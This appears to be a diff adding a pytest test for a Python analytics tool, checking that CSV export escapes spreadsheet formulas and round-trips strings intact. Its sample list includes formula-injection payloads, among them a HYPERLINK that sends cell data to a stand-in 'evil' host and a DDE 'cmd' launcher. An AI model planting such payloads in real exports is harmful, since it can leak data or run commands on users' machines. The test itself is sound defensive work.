@@ -4,6 +4,7 @@ by number, and an export that imports back to the same statistics, in NDJSON and
 from __future__ import annotations
 
 import asyncio
+import csv
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -14,6 +15,7 @@ from sqlalchemy import select
 from sqlmodel import col
 
 from app.cli import main
+from app.domain.event_documents import FORMULA_STARTS
 from app.domain.periods import Granularity, parse_zone, period_of_days
 from app.domain.stats import Breakdown, Metric, Rate, StatsQuery
 from app.services import bulk
@@ -393,3 +395,65 @@ def stored_sessions_and_users(url: str) -> list[tuple[object, object]]:
             await database.dispose()
 
     return asyncio.run(fetch())
+
+
+# Client text a spreadsheet would run, and text that already looks escaped.
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1-cmd",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "a\rb",
+    "'=1",
+    "''+x",
+    "'x",
+    "'",
+]
+
+
+def test_a_csv_export_runs_no_formula_and_imports_back_every_string(
+    database_url: str,
+    empty_database_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    use(database_url, monkeypatch)
+    prepare(capsys)
+    docs = [
+        {
+            "search": {
+                "query": text,
+                "sessionId": text,
+                "userId": text,
+                "configuration": text,
+                "eventId": text,
+                "occurredAt": f"2025-03-01T10:{n:02d}:00+00:00",
+            }
+        }
+        for n, text in enumerate(FORMULAS)
+    ]
+    assert cli(capsys, "import", str(write_ndjson(tmp_path / "in.ndjson", docs)))[0] == 0
+    period = ("--from", "2025-03-01", "--to", "2025-03-01")
+    exported = tmp_path / "out.csv"
+    assert cli(capsys, "export", *period, "--format", "csv", "--output", str(exported))[0] == 0
+    with exported.open(newline="") as written:
+        cells = [cell for row in csv.reader(written) for cell in row]
+    assert not [cell for cell in cells if cell[:1] and cell[0] in FORMULA_STARTS]
+    code, before, _ = cli(capsys, "export", *period)
+    assert code == 0
+
+    use(empty_database_url, monkeypatch)
+    assert cli(capsys, "migrate")[0] == 0
+    prepare(capsys)
+    code, _, err = cli(capsys, "import", str(exported))
+    assert code == 0, err
+    assert f"read {len(docs)}, stored {len(docs)}, duplicates 0, rejected 0" in summary(err)
+    # Exported again as NDJSON: the same events, every string exactly as it was recorded.
+    code, after, _ = cli(capsys, "export", *period)
+    assert sorted(after.splitlines()) == sorted(before.splitlines())
+    texts = {orjson.loads(line)["search"]["query"] for line in after.splitlines()}
+    assert texts == set(FORMULAS)
